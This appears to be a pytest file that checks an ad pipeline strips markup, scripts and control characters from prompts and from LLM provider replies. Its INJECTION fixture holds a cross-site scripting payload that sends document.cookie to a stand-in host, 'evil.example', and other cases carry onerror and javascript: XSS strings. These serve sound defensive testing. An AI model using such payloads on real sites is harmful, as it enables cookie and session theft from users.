"""LLM enhancement: prompt sanitizing, cleaning and re-validating whatever a provider returns
(offline director, a hostile fake, the real OpenAI SDK against a local server)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, ClassVar

import pytest

from pipeline.errors import CancelledError, InputError, StageError
from pipeline.providers import LLMResult, get_llm_provider
from pipeline.providers.copywriting.sanitize import copy_safe, sanitize_prompt
from pipeline.providers.llm_offline import OfflineCreativeDirector
from pipeline.settings import Settings
from pipeline.spec import AdSpecification
from pipeline.stages import llm_enhancement
from pipeline.stages.context import StageContext
from tests.cloud_fakes import OPENAI_KEY, FakeOpenAI, wire_spec
from tests.fakes import sample_specification

pytest_plugins = ["tests.cloud_servers"]  # fake_openai

INJECTION = (
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<style>body{display:none}</style><img src=x onerror=alert(1)>"
    "Create a <b>luxury</b> ad for Éclat perfume &lt;script&gt;alert(2)&lt;/script&gt;"
)


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(data_dir=tmp_path / "data", llm_provider="offline")


@pytest.fixture
def ctx(settings: Settings, tmp_path: Path) -> StageContext:
    return StageContext(settings=settings, workdir=tmp_path, seed=3)


def all_copy(spec: AdSpecification) -> list[str]:
    ad, brand = spec.ad, spec.brand
    return [
        spec.framework_reason, brand.brand_name, brand.tone, ad.product, ad.product_category,
        ad.target_audience, ad.call_to_action, ad.offer or "", *ad.key_benefits,
        *(b.headline for b in spec.beats), *(b.visual for b in spec.beats),
    ]  # fmt: skip


class EchoLLM:
    """A provider that returns ``spec_data`` (a dict) and records the prompts it saw."""

    name: ClassVar[str] = "echo"

    def __init__(self, spec_data: dict[str, Any]) -> None:
        self.spec_data = spec_data
        self.history: list[str] = []

    def enhance(self, prompt: str, ctx: StageContext) -> LLMResult:
        self.history.append(prompt)
        data = {**self.spec_data, "prompt": prompt}
        return LLMResult(AdSpecification.model_validate(data), cost=0.0123, model="echo-1")


# -- sanitizing -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("<script>alert(1)</script>Luxury watch ad", "Luxury watch ad"),
        ("<STYLE type='text/css'>p{}</STYLE>Soy  candles\n\nad", "Soy candles ad"),
        ("<b>Bold</b> <i>claims</i>", "Bold claims"),
        ("<b>Time</b>, perfected<br>.", "Time, perfected."),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Café ad", "Café ad"),
        ("Tea\x00 ad\x07 with\u202e bidi\u200b tricks", "Tea ad with bidi tricks"),
        ("<script>never closed ... everything after is code", ""),
        ("a link javascript:alert(1) here", "a link alert(1) here"),
        ("src data:text/html;base64,PHNjcmlwdD4= ok", "src base64,PHNjcmlwdD4= ok"),
        ("Big data: the course", "Big data: the course"),
        ("Crème brûlée 🍮 for Zoë's café", "Crème brûlée 🍮 for Zoë's café"),
        ("東京のラーメン店の広告", "東京のラーメン店の広告"),
        ("إعلان لمقهى جديد", "إعلان لمقهى جديد"),
        ("  lots   of\tspace  ", "lots of space"),
        ("5 < 6 and 7 > 3", "5 6 and 7 3"),
    ],
)
def test_sanitize_prompt(raw: str, clean: str) -> None:
    assert sanitize_prompt(raw) == clean


def test_copy_safe_drops_emoji_but_keeps_accents_and_scripts() -> None:
    assert copy_safe("Fresh 🥐 croissants 👩‍🍳 at Zoë's™") == "Fresh croissants at Zoë's™"
    assert copy_safe("今週末 🔥 50%オフ") == "今週末 50%オフ"


# -- the stage with the offline director --------------------------------------------------


def test_registry_builds_the_offline_director(settings: Settings, ctx: StageContext) -> None:
    llm = get_llm_provider(settings)
    assert isinstance(llm, OfflineCreativeDirector) and llm.name == "offline"
    result = llm.enhance("Create an energetic ad for ZephyrRun trail running shoes", ctx)
    assert (result.cost, result.model) == (0.0, "offline-director")
    assert result.specification.ad.duration_s == settings.target_duration_s


def test_injection_never_reaches_the_copy(settings: Settings, ctx: StageContext) -> None:
    result = llm_enhancement.run(INJECTION, ctx, OfflineCreativeDirector(settings))
    spec = result.specification
    assert spec.prompt == INJECTION  # shown literally (escaped) elsewhere
    assert spec.brand.brand_name == "Éclat" and spec.ad.product == "perfume"
    assert spec.ad.mood == "luxury"
    for text in all_copy(spec):
        low = text.lower()
        assert "<" not in text and ">" not in text, text
        for bad in ("script", "alert", "cookie", "onerror", "evil", "display:none"):
            assert bad not in low, (bad, text)


def test_the_provider_sees_the_sanitized_prompt(ctx: StageContext) -> None:
    llm = EchoLLM(sample_specification().model_dump())
    result = llm_enhancement.run("<i>Luxury</i> watch ad\x00 for   Instagram 🕰️", ctx, llm)
    assert llm.history == ["Luxury watch ad for Instagram 🕰️"]
    assert result.specification.prompt == "<i>Luxury</i> watch ad\x00 for   Instagram 🕰️"
    assert (result.cost, result.model) == (0.0123, "echo-1")


def test_markup_a_provider_echoes_back_is_cleaned(ctx: StageContext) -> None:
    data = sample_specification().model_dump()
    data["beats"][0]["headline"] = "<b>Time</b>, perfected. <script>alert(1)</script>⌚"
    data["beats"][1]["visual"] = "Macro of the dial <img src=x onerror=alert(1)>"
    data["ad"]["key_benefits"] = ["<i>Swiss</i> movement", "<script>x</script>"]
    data["ad"]["offer"] = "<span></span>"
    data["brand"]["brand_name"] = "<em>Aurelius</em>"
    result = llm_enhancement.run("Luxury watch ad for Instagram", ctx, EchoLLM(data))
    spec = result.specification
    assert spec.beats[0].headline == "Time, perfected."
    assert spec.beats[1].visual == "Macro of the dial"
    assert spec.ad.key_benefits == ["Swiss movement"]
    assert spec.ad.offer is None
    assert spec.brand.brand_name == "Aurelius"


def test_copy_that_is_only_markup_is_refused(ctx: StageContext) -> None:
    data = sample_specification().model_dump()
    data["beats"][2]["headline"] = "<script>alert(1)</script>🔥"
    with pytest.raises(StageError, match=r"beats\.2\.headline") as err:
        llm_enhancement.run("Luxury watch ad for Instagram", ctx, EchoLLM(data))
    assert err.value.stage == "llm_enhancement"


def test_a_prompt_with_no_words_is_an_input_error(ctx: StageContext) -> None:
    llm = EchoLLM(sample_specification().model_dump())
    with pytest.raises(InputError, match="no words left"):
        llm_enhancement.run("<script>alert('only code')</script><br/>", ctx, llm)
    assert llm.history == []


def test_cancel_before_the_call(settings: Settings, tmp_path: Path) -> None:
    ctx = StageContext(settings=settings, workdir=tmp_path, is_cancelled=lambda: True)
    llm = EchoLLM(sample_specification().model_dump())
    with pytest.raises(CancelledError):
        llm_enhancement.run("Luxury watch ad for Instagram", ctx, llm)
    assert llm.history == []


# -- the stage with the real OpenAI SDK against a local server ------------------------------


def test_openai_reply_is_cleaned_and_revalidated(fake_openai: FakeOpenAI, tmp_path: Path) -> None:
    settings = Settings(
        data_dir=tmp_path / "data",
        llm_provider="openai",
        openai_api_key=OPENAI_KEY,  # type: ignore[arg-type]
        openai_base_url=fake_openai.base_url,
        llm_timeout_s=10.0,
    )
    reply = wire_spec()
    reply["beats"][0]["headline"] = "Run <u>further</u><script>steal()</script>"
    fake_openai.enqueue_spec(reply)
    ctx = StageContext(settings=settings, workdir=tmp_path, seed=9)
    prompt = "<b>Stride</b> running shoes for city runners, launch week"
    result = llm_enhancement.run(prompt, ctx, get_llm_provider(settings))
    sent = fake_openai.history[0]["messages"][-1]["content"]
    assert sent == "Stride running shoes for city runners, launch week"
    spec = result.specification
    assert spec.prompt == prompt
    assert spec.beats[0].headline == "Run further"
    assert result.cost > 0
    assert "<" not in json.dumps([*all_copy(spec)])
